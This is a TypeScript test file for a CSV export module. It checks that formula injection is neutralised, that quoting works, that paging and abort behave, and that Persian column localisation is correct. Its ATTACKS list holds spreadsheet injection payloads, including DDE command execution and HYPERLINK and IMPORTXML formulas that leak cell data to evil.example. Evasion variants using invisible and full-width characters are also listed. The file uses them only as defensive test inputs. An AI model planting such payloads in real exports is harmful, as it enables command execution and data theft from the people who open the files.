import { execFileSync } from 'node:child_process'
import { pathToFileURL } from 'node:url'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { describe, expect, it } from 'vitest'
import { BOM, csvLine, harmless } from '../../../console/src/parts/csv/cells.ts'
import { csvOf } from '../../../console/src/parts/csv/csv.ts'
import { columnsOf, timeOf } from '../../../console/src/parts/csv/fields.ts'

/** Cells that spreadsheets have run, by OWASP's list and what got past it: blanks, invisible marks and wide forms first. */
const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"look")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '+989121234567',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain',
  ' =1+1',
  '\u00a0=1+1',
  '\u200f=1+1',
  '\u200e+989121234567',
  '\ufeff=1+1',
  '\u200b\u200c@SUM(1)',
  '\u0001=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\u22121+1',
]

const HARMLESS = ['', 'سلام', 'a=b', '1-2', '989121234567', 'kind@example.ir', 'قیمت: -۵', '(=)', "'=1"]

const read = (line: string): string[] =>
  [...line.trimEnd().matchAll(/"((?:[^"]|"")*)"(?:,|$)|([^",]*)(?:,|$)/g)]
    .slice(0, -1)
    .map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '')

describe('CSV', () => {
  it.each(ATTACKS)('neutralises %j', (text) => {
    expect(harmless(text)).toBe(`'${text}`)
    expect(csvLine([text])).toMatch(/^"'/)
  })

  it('leaves texts alone that nothing runs', () => {
    for (const text of HARMLESS) expect(harmless(text)).toBe(text)
  })

  it('keeps a cell one cell, whatever is in it', () => {
    const cells = ['a,b', 'say "no"', 'two\r\nlines', 'semi;=1+1', '"', '","=1+1']
    expect(read(csvLine(cells))).toEqual(cells)
    expect(csvLine(['a\0b', null, undefined, 12, -3, Number.NaN])).toBe('"ab",,,12,-3,\r\n')
  })

  const columns = [{ name: 'id', of: (row: number) => `n${row}` }]
  const pages = (cursor = '0') => {
    const from = Number(cursor)
    const data = Array.from({ length: 10 }, (_, i) => from + i)
    return Promise.resolve({ data, nextCursor: from === 40 ? null : String(from + 10) })
  }
  const lines = async (blob: Blob): Promise<number> => (await blob.text()).split('\r\n').length - 2

  it('writes a list to its end, with the mark of UTF-8', async () => {
    const seen: number[] = []
    const file = await csvOf({
      columns,
      read: pages,
      most: 1000,
      onProgress: ({ rows }) => seen.push(rows),
      signal: new AbortController().signal,
    })
    expect([file.end, file.rows, await lines(file.blob)]).toEqual(['all', 50, 50])
    expect(seen).toEqual([10, 20, 30, 40, 50])
    const bytes = new Uint8Array(await file.blob.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(BOM.length).toBe(1)
  })

  it('ends at its most rows, and when it is stopped', async () => {
    const full = await csvOf({
      columns,
      read: pages,
      most: 25,
      onProgress: () => undefined,
      signal: new AbortController().signal,
    })
    expect([full.end, full.rows, await lines(full.blob)]).toEqual(['most', 25, 25])
    const control = new AbortController()
    const onProgress = () => control.abort()
    const stopped = await csvOf({ columns, read: pages, most: 1000, onProgress, signal: control.signal })
    expect([stopped.end, stopped.rows, await lines(stopped.blob)]).toEqual(['stopped', 10, 10])
  })

  it('ends when it is stopped, also while a page is awaited that never comes', async () => {
    const control = new AbortController()
    const read = (cursor?: string) => (cursor === '20' ? new Promise<never>(() => undefined) : pages(cursor))
    const onProgress = ({ rows }: { rows: number }) => {
      if (rows === 20) setTimeout(() => control.abort(), 5)
    }
    const file = await csvOf({ columns, read, most: 1000, onProgress, signal: control.signal })
    expect([file.end, file.rows, file.last, file.error]).toEqual(['stopped', 20, 19, undefined])
  })

  it('holds no page that is in the file already', async () => {
    setFlagsFromString('--expose-gc')
    const collect = runInNewContext('gc') as () => void
    const seen: WeakRef<object>[] = []
    let held = -1
    const read = async (cursor = '0') => {
      const from = Number(cursor)
      const data = [from]
      seen.push(new WeakRef(data))
      // A job of its own: what a WeakRef was just made of is kept until the end of one.
      await new Promise((resolve) => setTimeout(resolve))
      if (from === 20) {
        collect()
        held = seen.filter((page) => page.deref() !== undefined).length
      }
      return { data, nextCursor: from === 20 ? null : String(from + 1) }
    }
    await csvOf({ columns, read, most: 1000, onProgress: () => undefined, signal: new AbortController().signal })
    // The page that is being read, and the one before it.
    expect(held).toBeLessThanOrEqual(2)
  })

  it('keeps what was read where a page cannot be read, and says so; without a first page there is no file', async () => {
    const failing = (at: string | undefined) => (cursor?: string) =>
      cursor === at ? Promise.reject(new Error('away')) : pages(cursor)
    const how = { columns, most: 1000, onProgress: () => undefined, signal: new AbortController().signal }
    const file = await csvOf({ ...how, read: failing('30') })
    expect([file.end, file.rows, file.last, await lines(file.blob)]).toEqual(['failed', 30, 29, 30])
    expect(file.error).toEqual(new Error('away'))
    await expect(csvOf({ ...how, read: failing(undefined) })).rejects.toThrow('away')
  })
})

describe('columns', () => {
  const row = {
    id: 'msg_1',
    acceptedAt: '2026-11-29T08:30:05.250Z',
    failure: { code: 'blocked', detail: '=1+1' },
    scopes: ['messages:send', 'messages:read'],
    isDefault: true,
    units: 2,
    secret: 'whsec_x',
  }
  const fields = ['id', 'acceptedAt', 'failure.code', 'scopes', 'isDefault', 'units'] as const

  it('hold the fields that are named, of a row and of its members, and no other', () => {
    const columns = columnsOf<typeof row>([...fields, { field: 'text', of: ({ failure }) => failure.detail }])
    expect(columns.map(({ of }) => of(row))).toEqual([
      'msg_1',
      '2026-11-29T08:30:05.250Z',
      'blocked',
      'messages:send messages:read',
      'true',
      2,
      '=1+1',
    ])
    expect(new Set(columns.map(({ name }) => name)).size).toBe(7)
    const [bare] = columnsOf<{ failure: { code: string } | null }>(['failure.code'])
    expect(bare?.of({ failure: null })).toBeNull()
  })

  it('write times and codes twice where the page is Persian: as the API says them, and in its calendar and words', () => {
    // A process of its own: the language is chosen once, when its module is read, and this process' other tests are English.
    const fields = pathToFileURL('console/src/parts/csv/fields.ts')
    const script = `
      Object.defineProperty(globalThis, 'navigator', { value: { languages: ['fa-IR'] } })
      const { columnsOf, localTime } = await import('${fields}')
      const columns = columnsOf(['id', 'acceptedAt', 'status', 'direction'])
      const cells = columns.map(({ of }) => of(${JSON.stringify({ ...row, status: 'delivered', direction: 'inbound' })}))
      const times = ['2020-07-01T00:00:00Z', 'never'].map(localTime)
      console.log(JSON.stringify({ names: columns.map(({ name }) => name), cells, times }))`
    const said = execFileSync(process.execPath, ['--input-type=module', '--eval', script], { encoding: 'utf8' })
    expect(JSON.parse(said)).toEqual({
      names: ['شناسه', 'زمان پذیرش', 'زمان پذیرش (هجری خورشیدی)', 'وضعیت', 'وضعیت (به فارسی)', 'جهت', 'جهت (به فارسی)'],
      cells: ['msg_1', row.acceptedAt, '1405/09/08 12:00:05 +03:30', 'delivered', 'رسیده', 'inbound', 'دریافتی'],
      times: ['1399/04/11 04:30:00 +04:30', null],
    })
  })

  it('tell how far down a list a file goes by the first of its times', () => {
    expect(timeOf(row, [...fields])).toBe(row.acceptedAt)
    expect(timeOf(row, ['id'])).toBeNull()
  })
})
